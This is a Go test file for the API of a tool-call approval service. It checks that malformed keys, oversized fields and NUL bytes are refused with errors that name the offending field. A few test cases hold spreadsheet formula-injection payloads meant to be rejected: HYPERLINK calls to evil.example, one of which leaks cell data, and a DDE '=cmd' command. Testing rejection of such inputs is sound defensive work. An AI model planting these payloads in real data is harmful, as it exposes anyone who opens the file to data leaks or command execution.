package handlers_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/countersign/countersign/dev"
)

// errMessage is the message of an API error answer.
func errMessage(out map[string]any) string {
	e, _ := out["error"].(map[string]any)
	s, _ := e["message"].(string)
	return s
}

// noErrorLogged fails t when the server logged at ERROR level: bad input
// is the client's mistake, not ours.
func (l *loop) noErrorLogged(t *testing.T) {
	t.Helper()
	for _, line := range strings.Split(l.Logs(), "\n") {
		if strings.Contains(line, "level=ERROR") {
			t.Fatalf("server logged an error for bad input: %s", line)
		}
	}
}

// body joins raw JSON members into an object.
func body(members ...string) string { return "{" + strings.Join(members, ",") + "}" }

// TestAPIRejectsUnknownDuplicateAndCaseVariantKeys: every endpoint that
// reads a body names the offending field, at the top level and nested.
func TestAPIRejectsUnknownDuplicateAndCaseVariantKeys(t *testing.T) {
	l := newLoop(t)
	id := l.pending(t, l.call("mail", "send_email", `{"to":"a@b.c"}`))
	def, _ := json.Marshal(dev.DemoPlaybook())
	subject := `"` + dev.DemoMember.Subject + `"`
	endpoints := []struct {
		name, method, path string
		members            []string
	}{
		{"Check", http.MethodPost, "/api/v1/tool-calls", []string{`"call_id":"c-keys"`, `"user":` + subject,
			`"conversation_id":"conv-k"`, `"turn_id":"t-k"`, `"connector":"mail"`, `"tool":"search_messages"`, `"arguments":"{}"`}},
		{"CatalogPut", http.MethodPut, "/api/v1/connectors/extra", []string{`"display_name":"Extra"`, `"kind":"connector"`,
			`"tools":[{"name":"t1"}]`}},
		{"ToolPut", http.MethodPut, "/api/v1/connectors/extra/tools/t2", []string{`"display_name":"T2"`, `"annotations":{"readOnlyHint":false}`,
			`"connector_kind":"connector"`}},
		{"Claim", http.MethodPost, "/api/v1/approvals/" + id + "/claim", []string{`"call_id":"call-1"`, `"arguments_digest":"sha256:0000000000000000000000000000000000000000000000000000000000000000"`}},
		{"TurnCancel", http.MethodPost, "/api/v1/turns/cancel", []string{`"user":` + subject, `"conversation_id":"conv-k"`, `"turn_id":"t-k"`}},
		{"PlaybookPut", http.MethodPut, "/api/v1/playbooks/" + dev.DemoPlaybookID, []string{`"owner":` + subject, `"definition":` + string(def)}},
	}
	for _, ep := range endpoints {
		t.Run(ep.name, func(t *testing.T) {
			if status, out := l.API(l.Key, ep.method, ep.path, body(ep.members...)); status == http.StatusBadRequest {
				t.Fatalf("the well-formed body is refused: %v", out)
			}
			first := ep.members[0]
			key := first[1 : strings.Index(first[1:], `"`)+1]
			caseVariant := `"` + strings.ToUpper(key[:1]) + key[1:] + `"` + first[len(key)+2:]
			cases := map[string]struct{ body, field string }{
				"Unknown":     {body(append(ep.members, `"colour":"red"`)...), "colour"},
				"Duplicate":   {body(append(ep.members, first)...), key},
				"CaseVariant": {body(append([]string{caseVariant}, ep.members[1:]...)...), strings.ToUpper(key[:1]) + key[1:]},
			}
			for name, c := range cases {
				status, out := l.API(l.Key, ep.method, ep.path, c.body)
				if status != http.StatusBadRequest || errCode(out) != "invalid_request" || !strings.Contains(errMessage(out), c.field) {
					t.Errorf("%s: %d %v (want 400 naming %s)", name, status, out, c.field)
				}
			}
		})
	}
	t.Run("Nested", func(t *testing.T) {
		cases := []struct{ method, path, body, field string }{
			{http.MethodPut, "/api/v1/connectors/extra", `{"kind":"connector","tools":[{"name":"t1","Name":"t2"}]}`, "tools[0].Name"},
			{http.MethodPut, "/api/v1/connectors/extra", `{"kind":"connector","tools":[{"name":"t1","name":"t2"}]}`, "tools[0].name"},
			{http.MethodPut, "/api/v1/connectors/extra", `{"kind":"connector","tools":[{"name":"t1","annotations":{"ReadOnlyHint":true}}]}`, "tools[0].annotations.ReadOnlyHint"},
			{http.MethodPut, "/api/v1/playbooks/p2", `{"owner":"x","definition":{"Name":"n","steps":[]}}`, "definition.Name"},
		}
		for _, c := range cases {
			status, out := l.API(l.Key, c.method, c.path, c.body)
			if status != http.StatusBadRequest || !strings.Contains(errMessage(out), c.field) {
				t.Errorf("%s: %d %v (want 400 naming %s)", c.body, status, out, c.field)
			}
		}
	})
	l.noErrorLogged(t)
}

// TestAPIFieldLimits: every identifier, name and text the API accepts is
// bounded, and a refusal names the field.
func TestAPIFieldLimits(t *testing.T) {
	l := newLoop(t)
	ctx := context.Background()
	long := func(n int) string { return strings.Repeat("x", n) }
	t.Run("Check", func(t *testing.T) {
		cases := []struct {
			field, value string
			ok           bool
		}{
			{"turn_id", long(200), true},
			{"turn_id", long(201), false},
			{"call_id", long(201), false},
			{"conversation_id", long(201), false},
			{"conversation_id", "conv\x01", false},
			{"user", long(201), false},
			{"reason", long(2000), true},
			{"reason", long(2001), false},
			{"connector", "=HYPERLINK(\"http://evil.example\",\"x\")", false},
			{"tool", long(129), false},
			{"playbook_run_id", long(1 << 20), false},
			{"playbook_run_id", `=HYPERLINK("http://evil.example/?"&A1,"open")`, false},
			{"playbook_run_id", "run-1", false},
		}
		for _, c := range cases {
			call := l.call("mail", "search_messages", `{}`)
			call[c.field] = c.value
			status, out := l.API(l.Key, http.MethodPost, "/api/v1/tool-calls", call)
			if c.ok && status != http.StatusOK {
				t.Errorf("%s of %d characters refused: %d %v", c.field, len(c.value), status, out)
			}
			if !c.ok && (status != http.StatusBadRequest || errCode(out) != "invalid_request" || !strings.HasPrefix(errMessage(out), c.field+" ")) {
				t.Errorf("%s %.40q: %d %v (want 400 naming the field)", c.field, c.value, status, out)
			}
		}
		var n int
		if err := l.DB.Pool.QueryRow(ctx, `SELECT count(*) FROM audit_events WHERE length(run_id) > 36 OR run_id LIKE '=%'`).Scan(&n); err != nil || n != 0 {
			t.Fatalf("an unchecked run id reached the audit log: %d %v", n, err)
		}
	})
	t.Run("CatalogPut", func(t *testing.T) {
		tool := func(k, v string) map[string]any {
			return map[string]any{"kind": "connector", "tools": []map[string]any{{"name": "t1", k: v}}}
		}
		cases := []struct {
			body  map[string]any
			field string
		}{
			{map[string]any{"kind": "connector", "display_name": long(201)}, "display_name"},
			{tool("display_name", long(201)), "tools[0].display_name"},
			{tool("description", long(2001)), "tools[0].description"},
			{map[string]any{"kind": "connector", "tools": []map[string]any{{"name": "=cmd|' /C calc'!A0"}}}, "tools[0].name"},
		}
		for _, c := range cases {
			status, out := l.API(l.Key, http.MethodPut, "/api/v1/connectors/extra", c.body)
			if status != http.StatusBadRequest || !strings.HasPrefix(errMessage(out), c.field+" ") {
				t.Errorf("%s: %d %v", c.field, status, out)
			}
		}
		if status, out := l.API(l.Key, http.MethodPut, "/api/v1/connectors/extra", tool("description", long(2000))); status != http.StatusOK {
			t.Errorf("a 2000-character description refused: %d %v", status, out)
		}
	})
	t.Run("PlaybookPut", func(t *testing.T) {
		cases := []struct {
			edit  func(m map[string]any, def map[string]any)
			field string
		}{
			{func(m, _ map[string]any) { m["owner"] = long(201) }, "owner"},
			{func(_, d map[string]any) { d["name"] = long(201) }, "definition.name"},
			{func(_, d map[string]any) { step(d)["title"] = long(201) }, "definition.steps[0].title"},
			{func(_, d map[string]any) { step(d)["id"] = long(201) }, "definition.steps[0].id"},
			{func(_, d map[string]any) {
				step(d)["tools"] = []map[string]any{{"connector": "mail", "tool": "=1+1"}}
			}, "definition.steps[0].tools[0].tool"},
		}
		for _, c := range cases {
			var def map[string]any
			raw, _ := json.Marshal(dev.DemoPlaybook())
			_ = json.Unmarshal(raw, &def)
			m := map[string]any{"owner": dev.DemoMember.Subject, "definition": def}
			c.edit(m, def)
			status, out := l.API(l.Key, http.MethodPut, "/api/v1/playbooks/p3", m)
			if status != http.StatusBadRequest || !strings.HasPrefix(errMessage(out), c.field+" ") {
				t.Errorf("%s: %d %v", c.field, status, out)
			}
		}
	})
	t.Run("TurnCancelAndClaim", func(t *testing.T) {
		status, out := l.API(l.Key, http.MethodPost, "/api/v1/turns/cancel", map[string]string{"user": "u", "conversation_id": "c", "turn_id": long(201)})
		if status != http.StatusBadRequest || !strings.HasPrefix(errMessage(out), "turn_id ") {
			t.Errorf("cancel: %d %v", status, out)
		}
		id := l.pending(t, l.call("mail", "send_email", `{}`))
		status, out = l.API(l.Key, http.MethodPost, "/api/v1/approvals/"+id+"/claim", map[string]string{"call_id": long(201), "arguments_digest": "sha256:00"})
		if status != http.StatusBadRequest || !strings.HasPrefix(errMessage(out), "call_id ") {
			t.Errorf("claim: %d %v", status, out)
		}
	})
	l.noErrorLogged(t)
}

func step(def map[string]any) map[string]any { return def["steps"].([]any)[0].(map[string]any) }

// TestNULIsRefusedCleanly: a NUL byte in a path, a query or a JSON string
// is a 400 naming where it was, never a 500 and an error log line.
func TestNULIsRefusedCleanly(t *testing.T) {
	l := newLoop(t)
	admin := l.NewBrowser()
	admin.SignIn("admin")
	id := l.pending(t, l.call("mail", "send_email", `{"to":"a@b.c"}`))
	t.Run("PathAndQuery", func(t *testing.T) {
		for _, p := range []string{"/api/v1/approvals/%00", "/api/v1/approvals/" + id + "%00", "/api/v1/connectors/a%00b"} {
			req, _ := http.NewRequest(http.MethodGet, l.BaseURL+p, nil)
			req.Header.Set("Authorization", "Bearer "+l.Key)
			if resp, body := l.Member.Do(req); resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "invalid_request") {
				t.Errorf("%s: %d %s", p, resp.StatusCode, body)
			}
		}
		for _, p := range []string{"/playbooks/%00", "/admin/audit?user=a%00b", "/admin/audit?tool=%00", "/?x%00=1"} {
			if resp, _ := admin.Get(p); resp.StatusCode != http.StatusBadRequest || resp.Header.Get("Content-Security-Policy") == "" {
				t.Errorf("%s: %d, CSP %q", p, resp.StatusCode, resp.Header.Get("Content-Security-Policy"))
			}
		}
	})
	t.Run("JSONStrings", func(t *testing.T) {
		check := l.call("mail", "search_messages", `{}`)
		check["conversation_id"] = "conv\x00"
		nulKey := `{"call_id":"c","us\u0000er":"u"}`
		cases := []struct {
			method, path string
			body         any
			field        string
		}{
			{http.MethodPost, "/api/v1/tool-calls", check, "conversation_id"},
			{http.MethodPost, "/api/v1/tool-calls", nulKey, "body"},
			{http.MethodPost, "/api/v1/turns/cancel", map[string]string{"user": "u\x00", "conversation_id": "c", "turn_id": "t"}, "user"},
			{http.MethodPut, "/api/v1/connectors/extra", map[string]any{"kind": "connector",
				"tools": []map[string]any{{"name": "t1", "description": "a\x00b"}}}, "tools[0].description"},
			{http.MethodPut, "/api/v1/playbooks/p4", map[string]any{"owner": "o", "definition": map[string]any{
				"name": "n", "settings": map[string]any{"k": []string{"\x00"}}}}, "definition.settings.k[0]"},
		}
		for _, c := range cases {
			status, out := l.API(l.Key, c.method, c.path, c.body)
			if status != http.StatusBadRequest || errCode(out) != "invalid_request" || !strings.Contains(errMessage(out), c.field) {
				t.Errorf("%s: %d %v (want 400 naming %s)", c.path, status, out, c.field)
			}
		}
	})
	t.Run("Arguments", func(t *testing.T) {
		// A NUL byte in the arguments text itself makes it text that is not
		// JSON: as for any such text, a person decides, and sees a visible ␀.
		rawID := l.pending(t, l.call("mail", "send_email", "{\"to\":\"x\x00y\"}"))
		a, err := l.DB.ApprovalForViewer(context.Background(), rawID, dev.DemoMember.Subject)
		if err != nil || a.Preview.Parsed || !visibleNUL(a.Preview.Raw) {
			t.Fatalf("raw NUL in arguments: %v %+v", err, a.Preview)
		}
		// An escaped NUL inside the model's JSON is a value like any other:
		// the call asks, and the reviewer sees a visible ␀.
		esc := l.call("mail", "send_email", `{"to":"x\u0000y"}`)
		aid := l.pending(t, esc)
		a, err = l.DB.ApprovalForViewer(context.Background(), aid, dev.DemoMember.Subject)
		if err != nil || len(a.Preview.Lines) != 1 || !visibleNUL(a.Preview.Lines[0].Value) {
			t.Fatalf("%v %+v", err, a.Preview)
		}
	})
	t.Run("FormBody", func(t *testing.T) {
		// A NUL that gets past every edge still ends as a 400 from the
		// database's error translation.
		other := l.pending(t, l.call("mail", "send_email", `{"to":"form@b.c"}`))
		resp, _ := l.Member.PostForm("/approvals/"+other+"/decision", url.Values{"decision": {"reject"}, "reason": {"no\x00"}})
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("NUL in a form field: %d", resp.StatusCode)
		}
	})
	l.noErrorLogged(t)
}

// visibleNUL reports whether a preview of text holding "x", NUL, "y" shows
// something in place of the NUL and no NUL itself.
func visibleNUL(s string) bool {
	i, j := strings.Index(s, "x"), strings.LastIndex(s, "y")
	return !strings.ContainsRune(s, 0) && i >= 0 && j > i+1
}
